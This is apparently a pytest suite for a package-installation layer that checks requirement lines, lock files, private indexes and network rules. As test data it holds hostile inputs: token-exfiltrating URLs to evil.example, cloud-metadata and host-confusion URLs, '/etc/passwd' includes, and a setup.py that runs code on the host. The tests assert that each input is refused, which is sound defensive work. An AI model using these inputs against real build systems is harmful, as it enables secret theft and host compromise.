from __future__ import annotations

import asyncio
import hashlib
import importlib.util
import resource
import socket
import threading
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.metadata import version
from pathlib import Path

import pytest

from aenv.engines.package_layers import PackageList, layer, packages_for
from aenv.engines.static_imports import imported_by, packages_of
from aenv.errors import LoadError, Unavailable
from aenv.isolation.network.policy import Network
from aenv.schema.requirements import stamp


def asked(folder: Path, text: str, network: Network | None = None) -> list[str]:
    (folder / "requirements.txt").write_text(text)
    return list(packages_for(folder, network).lines)


def test_only_missing_packages_are_required(tmp_path: Path) -> None:
    assert not packages_for(tmp_path)
    text = "# ours\naenvironment>=0.1\n\npytest\nno-such-package-a==1.0 # why\n"
    text += "no-such-package-b[x]>=2 ; python_version > '3'\n"
    assert asked(tmp_path, text) == [
        "no-such-package-a==1.0",
        "no-such-package-b[x]>=2 ; python_version > '3'",
    ]


@pytest.mark.parametrize(
    ("line", "missing"),
    [
        ("pytest>=1", False),
        ("PyTest >= 1, < 9999", False),
        ("pytest~=1.0", True),
        ("pytest!=9999", False),
        (f"pytest==={version('pytest')}", False),
        ("pytest<1", True),
        ("no-such-package; python_version < '3'", False),
        ("no-such-package; sys_platform == 'win32'", False),
        ("no-such-package; sys_platform != 'win32'", True),
        ("pytest[no-such-extra]", False),
        ("pydantic[email]>=2", False),
        ("pydantic[email]<2", True),
        ("moto[s3,server]", False),
        ("hypothesis[django]", True),
        ("AEnvironment[agents] >= 99", False),
    ],
)
def test_what_is_installed_is_decided_by_specifiers_extras_and_markers(
    tmp_path: Path, line: str, missing: bool
) -> None:
    assert asked(tmp_path, f"{line}\n") == ([line] if missing else [])


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("evil @ file:///tmp/evil", "not a wheel"),
        ("evil @ git+https://host/x", "a repository must be built"),
        ("git+https://host/x", "a repository must be built"),
        ("git+ssh://git@host/x.git@main#egg=x", "a repository must be built"),
        ("https://host/x-1.0.tar.gz", "not a wheel"),
        ("x @ https://host/x.zip", "not a wheel"),
        ("./local", "not a wheel"),
        ("/abs", "not a wheel"),
        ("-e .", "not a wheel"),
        ("../other-1.0-py3-none-any.whl", "outside of the project"),
        ("./none-1.0-py3-none-any.whl", "no such file"),
        ("--target=/etc", "the option --target is not supported"),
        ("--no-binary :all:", "the option --no-binary is not supported"),
        ("-r other.txt", "the file cannot be read"),
        ("-r /etc/passwd", "outside of the project"),
        ("-c ../up.txt", "outside of the project"),
        ("--find-links /etc", "outside of the project"),
        ("--index-url https://host/$AENV_API_KEY/simple", "variables are not expanded"),
        ("a>=1 --pre", "options after a package"),
        ("a==1 --hash=md5:0", "options after a package"),
        ("a b c", "is not a valid requirement"),
        ("sqlalchemy>=>2", "is not a valid requirement"),
        ("a ; python_version <> 3", "is not a valid requirement"),
    ],
)
def test_a_line_that_cannot_be_installed_is_refused_by_name(tmp_path: Path, line: str, reason: str) -> None:
    with pytest.raises(LoadError) as caught:
        asked(tmp_path, f"{line}\n")
    assert reason in caught.value.message
    assert line.split()[-1].removeprefix("./").split("/")[-1][:20] in caught.value.message
    assert caught.value.exit_code == 4


@pytest.mark.parametrize("line", ["https://host.example/x-1.0-py3-none-any.whl", "-i https://host.example/simple\nx"])
@pytest.mark.parametrize(
    ("network", "allowed"),
    [
        (None, True),
        ("host", True),
        ("loopback", False),
        ("none", False),
        (["host.example"], True),
        (["*.example:443"], True),
        (["host.example:80"], False),
        (["other.example"], False),
    ],
)
def test_another_host_is_used_only_where_the_network_rules_allow_it(
    tmp_path: Path, line: str, network: str | list[str] | None, allowed: bool
) -> None:
    policy = None if network is None else Network.parse(network)
    if allowed:
        assert len(asked(tmp_path, f"{line}\n", policy)) == 1
        return
    with pytest.raises(LoadError, match=r"host\.example:443 is not on the list") as caught:
        asked(tmp_path, f"{line}\n", policy)
    assert "deployConfig.network" in caught.value.details["hint"]


def test_the_callers_own_index_needs_no_rule(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("--extra-index-url https://pypi.company.example/simple\nx\n")
    with pytest.raises(LoadError):
        packages_for(tmp_path, Network("none"))
    own = {"UV_INDEX_URL": "https://reader:secret@pypi.company.example/simple"}
    assert packages_for(tmp_path, Network("none"), own).lines == ("x",)


def test_passwords_of_an_index_are_not_shown(tmp_path: Path) -> None:
    with pytest.raises(LoadError) as caught:
        asked(tmp_path, "--extra-index-url https://reader:secret@host.example/simple\nx\n", Network("none"))
    assert "secret" not in caught.value.message


def test_included_files_and_constraints_count(tmp_path: Path) -> None:
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "base.txt").write_text("no-such-package-a\n-r nested.txt\n")
    (tmp_path / "more" / "nested.txt").write_text("no-such-package-b\n")
    (tmp_path / "limits.txt").write_text("no-such-package-a<2\n")
    assert asked(tmp_path, "-r more/base.txt\n-c limits.txt\n") == ["no-such-package-a", "no-such-package-b"]
    assert packages_for(tmp_path).options == (("--constraint", "no-such-package-a<2\n"),)
    (tmp_path / "more" / "nested.txt").write_text("-r base.txt\n")
    with pytest.raises(LoadError, match="include each other"):
        packages_for(tmp_path)


HASH = f"--hash=sha256:{'0' * 64}"


def test_a_lock_counts_as_long_as_it_belongs_to_the_requirements(tmp_path: Path) -> None:
    asked(tmp_path, "no-such-package-a\n")
    lock = tmp_path / "requirements.lock"
    lock.write_text(
        f"{stamp(b'no-such-package-a' + bytes([10]))}\n"
        f"no-such-package-a==1.5 ; python_version > '3' \\\n    {HASH} \\\n    {HASH}\n"
        f"pytest=={version('pytest')} \\\n    {HASH}\n"
    )
    (line,) = packages_for(tmp_path).lines
    assert line.split() == ["no-such-package-a==1.5", ";", "python_version", ">", "'3'", HASH, HASH]
    assert asked(tmp_path, "no-such-package-a>=1\n") == ["no-such-package-a>=1"]


def test_a_lock_that_would_run_code_on_the_host_is_refused(tmp_path: Path) -> None:
    asked(tmp_path, "a\n")
    (tmp_path / "requirements.lock").write_text(f"{stamp(b'a' + bytes([10]))}\n--index-url http://evil.example\n")
    with pytest.raises(LoadError, match=r"requirements\.lock.*is not a valid requirement"):
        packages_for(tmp_path)


@pytest.mark.attack("build")
def test_a_lock_names_no_host_that_the_network_rules_do_not_allow(tmp_path: Path) -> None:
    asked(tmp_path, "evil\n")
    url = "http://169.254.169.254/evil-1.0-py3-none-any.whl"
    (tmp_path / "requirements.lock").write_text(f"{stamp(b'evil' + bytes([10]))}\nevil @ {url} {HASH}\n")
    with pytest.raises(LoadError, match=r"169\.254\.169\.254:80"):
        packages_for(tmp_path, Network("none"))


@pytest.mark.attack("build")
@pytest.mark.parametrize(
    "line",
    [
        "evil @ http://169.254.169.254\\@pypi.org/evil-1.0-py3-none-any.whl",
        "http://169.254.169.254\\@pypi.org/evil-1.0-py3-none-any.whl",
        "--index-url http://169.254.169.254\\\\@pypi.org/simple\nevil",
        "--extra-index-url http://evil.example\\\\@pypi.org/\nevil",
        "http://pypi.org\u3002evil.example/evil-1.0-py3-none-any.whl",
    ],
)
def test_a_url_whose_host_can_be_read_in_two_ways_is_refused(tmp_path: Path, line: str) -> None:
    with pytest.raises(LoadError, match="cannot be installed"):
        asked(tmp_path, f"{line}\n", Network("none"))


@pytest.mark.attack("build")
@pytest.mark.parametrize(
    "line",
    [
        "evil @ https://evil.example/${AENV_TOKEN}/evil-1.0-py3-none-any.whl",
        "https://evil.example/${AENV_TOKEN}/evil-1.0-py3-none-any.whl",
        "evil==1.0+${AENV_TOKEN}",
        "--find-links https://evil.example/${AENV_TOKEN}\nevil",
        "--index-url https://${AENV_TOKEN}@evil.example/\nevil",
    ],
)
def test_no_variable_of_the_platform_is_put_into_a_requirement(tmp_path: Path, line: str) -> None:
    with pytest.raises(LoadError, match="cannot be installed"):
        asked(tmp_path, f"{line}\n", Network.parse(["evil.example"]))


def make_wheel(folder: Path, number: str = "1.0", name: str = "aenvtestpackage", requires: Sequence[str] = ()) -> Path:
    """Write a wheel with one module and return its path."""
    folder.mkdir(exist_ok=True)
    wheel = folder / f"{name}-{number}-py3-none-any.whl"
    needs = "".join(f"Requires-Dist: {each}\n" for each in requires)
    with zipfile.ZipFile(wheel, "w") as file:
        info = f"{name}-{number}.dist-info"
        file.writestr(f"{name}.py", f"x = {number!r}\n")
        file.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {number}\n{needs}")
        file.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        file.writestr(f"{info}/RECORD", f"{name}.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
    return wheel


@pytest.fixture
def no_uv(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Install with what the parameter names: uv, pip, or the pip that comes with Python."""
    if request.param != "uv":
        monkeypatch.setattr("aenv.engines.package_installer.uv_program", lambda: None)
    if request.param == "ensurepip":
        pytest.importorskip("ensurepip._bundled", reason="this Python has no pip of its own (Debian: python3-venv)")
        find = importlib.util.find_spec
        monkeypatch.setattr("importlib.util.find_spec", lambda name: None if name == "pip" else find(name))


@pytest.mark.long
@pytest.mark.parametrize("no_uv", ["uv", "pip", "ensurepip"], indirect=True)
@pytest.mark.parametrize("kind", ["path", "named path", "find-links", "constraint"])
@pytest.mark.usefixtures("no_uv")
def test_wheels_of_the_project_are_installed(tmp_path: Path, kind: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    for number in ("1.0", "1.1"):
        make_wheel(project / "wheels", number)
    (project / "limits.txt").write_text("aenvtestpackage<1.1\n")
    text = {
        "path": "./wheels/aenvtestpackage-1.0-py3-none-any.whl\n",
        "named path": "aenvtestpackage @ file:wheels/aenvtestpackage-1.0-py3-none-any.whl\n",
        "find-links": "--no-index\n--find-links wheels\naenvtestpackage==1.0\n",
        "constraint": "--no-index\n-f wheels\n-c limits.txt\naenvtestpackage\n",
    }[kind]
    (project / "requirements.txt").write_text(text)
    wanted = packages_for(project, Network("none"))
    made = asyncio.run(layer(wanted, tmp_path / "layers", {"UV_CACHE_DIR": str(tmp_path / "uv")}))
    assert (made / "aenvtestpackage.py").read_text() == "x = '1.0'\n"


@pytest.mark.long
@pytest.mark.attack("packages")
@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.parametrize("kind", ["path", "find-links", "index"])
@pytest.mark.parametrize(
    "place", ["{source}", "{url}/evil-1.0-py3-none-any.whl", "{url}/evil-1.0.tar.gz", "git+{url}/evil"]
)
@pytest.mark.usefixtures("no_uv")
def test_a_package_cannot_lead_the_installer_to_a_place(tmp_path: Path, kind: str, place: str) -> None:
    """It would ask hosts that no rule allows, and pip would build what is there: run its code on the host."""
    project, built = tmp_path / "project", tmp_path / "built"
    for folder in (project, source := tmp_path / "source"):
        folder.mkdir()
    (source / "setup.py").write_text(f"open({str(built)!r}, 'w')\nfrom setuptools import setup\nsetup(name='evil')\n")
    reached: list[str | None] = []
    with index_of(source / "setup.py", sent=reached) as other:
        requires = f"evil @ {place.format(source=source.as_uri(), url=other)}"
        wheel = make_wheel(project / "wheels", requires=[requires])
        with index_of(wheel) as url:
            lines = {
                "path": f"./wheels/{wheel.name}\n",
                "find-links": "--no-index\n--find-links wheels\naenvtestpackage\n",
                "index": f"--index-url {url}/simple\naenvtestpackage\n",
            }
            (project / "requirements.txt").write_text(lines[kind])
            wanted = packages_for(project, Network.parse([url.removeprefix("http://")]))
            hosts = {"UV_CACHE_DIR": str(tmp_path / "uv"), "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}
            with pytest.raises(LoadError, match="evil"):
                asyncio.run(layer(wanted, tmp_path / "layers", hosts))
    assert (reached, built.exists()) == ([], False)


@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.usefixtures("no_uv")
def test_what_packages_require_is_installed_in_versions_that_fit(tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    make_wheel(wheels, name="first", requires=["second[more]>=1", "never; python_version < '3'", "third @ file:///x"])
    for number in ("1.0", "2.0"):
        make_wheel(wheels, number, name="second", requires=["fourth", "fifth; extra == 'more'"])
        make_wheel(wheels, number, name="fifth")
    make_wheel(wheels, name="third")
    make_wheel(wheels, name="fourth", requires=["second<2", "fifth<2"])
    text = "--no-index\n-f wheels\n./wheels/first-1.0-py3-none-any.whl\n./wheels/third-1.0-py3-none-any.whl\n"
    (tmp_path / "requirements.txt").write_text(text)
    wanted = packages_for(tmp_path, Network("none"))
    made = asyncio.run(layer(wanted, tmp_path / "layers", {"UV_CACHE_DIR": str(tmp_path / "uv")}))
    found = {path.stem: path.read_text() for path in made.glob("*.py")}
    assert found == dict.fromkeys(("first", "second", "third", "fourth", "fifth"), "x = '1.0'\n")


@contextmanager
def index_of(
    wheel: Path, *, host: str = "127.0.0.1", moved_to: str = "", sent: list[str | None] | None = None
) -> Iterator[str]:
    """Serve a package index with one wheel on loopback. ``sent`` collects the credentials of the requests.

    ``moved_to``: the URL that requests with credentials are redirected to; those without get 401.
    """

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            given = self.headers["authorization"]
            if sent is not None:
                sent.append(given)
            if moved_to:
                self.send_response(302 if given else 401)
                self.send_header(*(("Location", moved_to + self.path) if given else ("WWW-Authenticate", "Basic")))
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            page = f'<a href="/files/{wheel.name}">{wheel.name}</a>'.encode()
            found = {"/simple/aenvtestpackage/": page, f"/files/{wheel.name}": wheel.read_bytes()}.get(self.path)
            self.send_response(404 if found is None else 200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(found or b"")))
            self.end_headers()
            if self.command == "GET":
                self.wfile.write(found or b"")

        do_HEAD = do_GET

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer((host, 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://{host}:{server.server_port}"
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.parametrize("kind", ["index", "url"])
@pytest.mark.usefixtures("no_uv")
def test_packages_come_from_a_private_index_and_from_urls(tmp_path: Path, kind: str) -> None:
    wheel = make_wheel(tmp_path / "wheels")
    with index_of(wheel) as url:
        text = f"--index-url {url}/simple\naenvtestpackage\n" if kind == "index" else f"{url}/files/{wheel.name}\n"
        (tmp_path / "requirements.txt").write_text(text)
        with pytest.raises(LoadError, match=r"127\.0\.0\.1:\d+ is not on the list"):
            packages_for(tmp_path, Network("loopback"))
        wanted = packages_for(tmp_path, Network.parse([url.removeprefix("http://")]))
        variables = {"UV_CACHE_DIR": str(tmp_path / "uv"), "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1"}
        made = asyncio.run(layer(wanted, tmp_path / "layers", variables))
    assert (made / "aenvtestpackage.py").is_file()


@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.usefixtures("no_uv")
def test_credentials_of_an_index_are_not_sent_to_the_host_it_redirects_to(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path / "wheels")
    first: list[str | None] = []
    second: list[str | None] = []
    hosts = "127.0.0.1,127.0.0.2"
    variables = {"UV_CACHE_DIR": str(tmp_path / "uv"), "NO_PROXY": hosts, "no_proxy": hosts}
    with index_of(wheel, host="127.0.0.2", sent=second) as other, index_of(wheel, moved_to=other, sent=first) as url:
        index = f"{url.replace('//', '//reader:secret@')}/simple"
        wanted = PackageList(("aenvtestpackage",), (("--index-url", index),), ("aenvtestpackage",))
        made = asyncio.run(layer(wanted, tmp_path / "layers", variables))
    assert (made / "aenvtestpackage.py").is_file()
    assert any(first)
    assert second
    assert not any(second)


@pytest.mark.parametrize(("name", "reason"), [("links.html", "not a package"), ("out.whl", "leads out")])
def test_a_folder_of_wheels_with_anything_that_leads_elsewhere_is_refused(
    tmp_path: Path, name: str, reason: str
) -> None:
    """pip reads the pages in such a folder, and follows their links to any host and any file."""
    (tmp_path / "secret.whl").write_text("")
    project = tmp_path / "project"
    project.mkdir()
    wheel = make_wheel(project / "wheels")
    (project / "requirements.txt").write_text("--no-index\n--find-links wheels\naenvtestpackage\n")
    assert packages_for(project)
    if name.endswith(".whl"):
        (wheel.parent / name).symlink_to(tmp_path / "secret.whl")
    else:
        (wheel.parent / name).write_text('<a href="http://169.254.169.254/">aenvtestpackage-9-py3-none-any.whl</a>')
    with pytest.raises(LoadError, match=reason) as caught:
        packages_for(project)
    assert name in caught.value.message
    (project / "requirements.txt").write_text("--find-links wheels/none\naenvtestpackage\n")
    with pytest.raises(LoadError, match="not a folder of wheels"):
        packages_for(project)


@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.usefixtures("no_uv")
def test_an_index_that_does_not_answer_is_no_fault_of_the_environment(tmp_path: Path) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{closed.getsockname()[1]}/simple"
        variables = {
            "UV_CACHE_DIR": str(tmp_path / "uv"), "UV_HTTP_RETRIES": "0", "PIP_RETRIES": "1", "NO_PROXY": "127.0.0.1",
            "no_proxy": "127.0.0.1", "UV_FIND_LINKS": "", "PIP_FIND_LINKS": "", "PIP_CONFIG_FILE": "/dev/null",
        }  # fmt: skip
        wanted = PackageList(("aenvtestpackage",), (("--index-url", url),), ("aenvtestpackage",))
        with pytest.raises(Unavailable, match="the package index cannot be reached") as caught:
            asyncio.run(layer(wanted, tmp_path / "layers", variables))
    assert (caught.value.fault, caught.value.exit_code) == ("infra", 1)


@pytest.mark.parametrize("no_uv", ["uv", "pip"], indirect=True)
@pytest.mark.usefixtures("no_uv")
def test_a_package_that_does_not_exist_is_named_without_the_progress_of_the_others(tmp_path: Path) -> None:
    make_wheel(tmp_path / "wheels")
    names = ("aenvtestpackage", "no-such-package-of-ours")
    wanted = PackageList(names, (("--no-index", ""), ("--find-links", str(tmp_path / "wheels"))), names)
    with pytest.raises(LoadError, match=r"no-such-package-of-ours cannot be installed:\n") as caught:
        asyncio.run(layer(wanted, tmp_path / "layers", {"UV_CACHE_DIR": str(tmp_path / "uv")}))
    reason = caught.value.message.partition("\n")[2]
    assert "no-such-package-of-ours" in reason
    assert "Looking in" not in reason
    assert "Collecting" not in reason


def test_packages_are_installed_as_locked_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wheels = tmp_path / "wheels"
    wheel = make_wheel(wheels)
    for name, value in {"UV_FIND_LINKS": str(wheels), "UV_NO_INDEX": "1", "UV_CACHE_DIR": str(tmp_path / "uv")}.items():
        monkeypatch.setenv(name, value)
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()

    def locked(digests: str) -> PackageList:
        return PackageList((f"aenvtestpackage==1.0 {digests}",), (), ("aenvtestpackage==1.0",))

    made = asyncio.run(layer(locked(f"--hash=sha256:{digest}"), tmp_path / "layers"))
    assert (made / "aenvtestpackage.py").is_file()
    with pytest.raises(LoadError, match=r"aenvtestpackage==1\.0 cannot be installed"):
        asyncio.run(layer(locked(HASH), tmp_path / "layers"))
    assert [path for path in (tmp_path / "layers").iterdir() if path.name.isalnum()] == [made]


def test_third_party_imports_are_told_from_the_projects_own(tmp_path: Path) -> None:
    (tmp_path / "src" / "inner").mkdir(parents=True)
    (tmp_path / "src" / "a.py").write_text(
        "import json, numpy.linalg\nfrom helper import x\nfrom . import b\nfrom aenv import register_tool\n"
        "from src.b import y\nfrom inner import z\ndef f():\n    import lazy\n"
        "try:\n    import torch\nexcept ImportError:\n    import other\n"
    )
    (tmp_path / "src" / "helper.py").write_text("import this is broken")
    (tmp_path / "src" / "b.py").write_text("from collections import abc\n")
    (tmp_path / "src" / "test_a.py").write_text("import pytest\n")
    assert imported_by(tmp_path) == ["json", "numpy.linalg", "torch", "collections"]


@pytest.mark.attack("build")
@pytest.mark.parametrize(
    "text",
    ["-" * 200_000 + "1", "(" * 5000, "a" + ".a" * 200_000, "x\0", "import json\n" * 500_000],
)  # fmt: skip
def test_code_that_is_hard_to_parse_only_hides_its_own_imports(tmp_path: Path, text: str) -> None:
    (tmp_path / "a.py").write_text(text)
    (tmp_path / "b.py").write_text("import torch\n")
    assert imported_by(tmp_path) == ["torch"]


@pytest.mark.attack("build")
def test_a_project_that_is_hard_to_parse_takes_no_memory_of_the_platform(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("a\n" * 2_000_000)  # 4 GB, and half a minute
    (tmp_path / "b.py").write_text("import torch\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert asyncio.run(packages_of(tmp_path)) in (["torch"], [])  # without it where the time did not suffice
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 256 << 10


def test_packages_are_those_that_the_project_imports(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import torch\nimport b\n")
    (tmp_path / "b.py").write_text("import numpy\n")
    assert asyncio.run(packages_of(tmp_path)) == ["torch", "numpy"]
    assert asyncio.run(packages_of(tmp_path, ["b.py"])) == ["numpy"]


def test_packages_of_modules_that_the_loader_leaves_to_others_come_last(tmp_path: Path) -> None:
    (tmp_path / "_episode.py").write_text("import tau2.registry\n")
    (tmp_path / "env.py").write_text("import tau2_bench_data\nimport tau2.evaluator\n")
    assert imported_by(tmp_path) == ["tau2_bench_data", "tau2.evaluator", "tau2.registry"]


@pytest.mark.attack("build")
def test_links_in_circles_are_not_followed(tmp_path: Path) -> None:
    for name in ("one", "two", "three"):
        (tmp_path / name).symlink_to(".")
    (tmp_path / "a.py").write_text("import torch\n")
    assert imported_by(tmp_path) == ["torch"]
